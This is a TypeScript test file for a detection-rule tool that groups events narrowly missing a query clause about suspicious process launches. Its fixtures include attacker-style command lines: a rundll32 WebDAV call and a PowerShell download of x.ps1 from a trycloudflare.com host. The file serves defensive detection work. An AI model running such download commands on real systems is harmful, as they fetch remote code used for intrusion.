import { describe, expect, it } from 'vitest';
import type { NearMiss } from '../engine/types';
import type { Row } from '../engine/value';
import type { ClauseInfo } from '../xql/plan';
import { groupNearMisses } from './coverage';
import { truncate } from './truncate';

function clause(index: number, text: string, fields: string[]): ClauseInfo {
  return { index, stage: 2, text, pos: { line: 1, column: 1, start: 0, end: text.length }, fields };
}

const IMAGE = clause(
  4,
  '( action_process_image_name = "cmd.exe" or action_process_image_name = "powershell.exe" or action_process_image_name = "wscript.exe" or action_process_image_name = "cscript.exe" )',
  ['action_process_image_name'],
);
const CMDLINE = clause(3, '( action_process_image_command_line contains "webdav" or ... )', ['action_process_image_command_line']);

function nm(failedClause: number, row: Row, i: number): NearMiss {
  return {
    key: `0:${i}`,
    eventId: `e${i}`,
    row,
    source: { file: 'x.csv', row: i, line: i + 1 },
    failedClause,
    explanation: { clauses: [] },
  };
}

describe('groupNearMisses', () => {
  const misses = [
    nm(4, { action_process_image_name: 'rundll32.exe', action_process_image_command_line: 'rundll32.exe davclnt.dll,DavSetCookie a.trycloudflare.com@SSL' }, 1),
    nm(4, { action_process_image_name: 'pwsh.exe' }, 2),
    nm(4, { action_process_image_name: 'rundll32.exe' }, 3),
    nm(3, { action_process_image_command_line: 'powershell iwr https://a.trycloudflare.com/x.ps1 -OutFile x.ps1' }, 4),
  ];

  it('groups by failed clause, largest first, with a takeaway naming the missing values', () => {
    const groups = groupNearMisses(misses, [CMDLINE, IMAGE]);
    expect(groups.map((g) => [g.clauseIndex, g.count])).toEqual([
      [4, 3],
      [3, 1],
    ]);
    expect(groups[0].values.map((v) => [v.value, v.count])).toEqual([
      ['rundll32.exe', 2],
      ['pwsh.exe', 1],
    ]);
    expect(groups[0].takeaway).toMatch(/^3 events fail only: \( action_process_image_name = "cmd\.exe" .*…/u);
    expect(groups[0].takeaway).toMatch(/— consider adding rundll32\.exe, pwsh\.exe$/u);
    expect(groups[1].takeaway).toBe(
      '1 event fails only: ( action_process_image_command_line contains "webdav" or ... ) — 1 distinct value of action_process_image_command_line; review them below',
    );
  });

  it('does not suggest widening a single comparison', () => {
    const sub = clause(1, 'event_sub_type = ENUM.PROCESS_START', ['event_sub_type']);
    const [g] = groupNearMisses([nm(1, { event_sub_type: 'PROCESS_STOP' }, 1)], [sub]);
    expect(g.takeaway).toBe('1 event fails only: event_sub_type = ENUM.PROCESS_START — they have PROCESS_STOP instead');
  });

  it('copes with a clause index it does not know', () => {
    const [g] = groupNearMisses([nm(9, {}, 1)], []);
    expect(g.clause).toBeNull();
    expect(g.takeaway).toBe('1 event fails only: an unknown clause');
  });
});

describe('truncate', () => {
  it('cuts by code point and marks the cut', () => {
    expect(truncate('short', 10)).toBe('short');
    expect(truncate('abcdefghij', 5)).toBe('abcd…');
    expect(truncate('😀😀😀😀😀😀', 4)).toBe('😀😀😀…');
  });
});
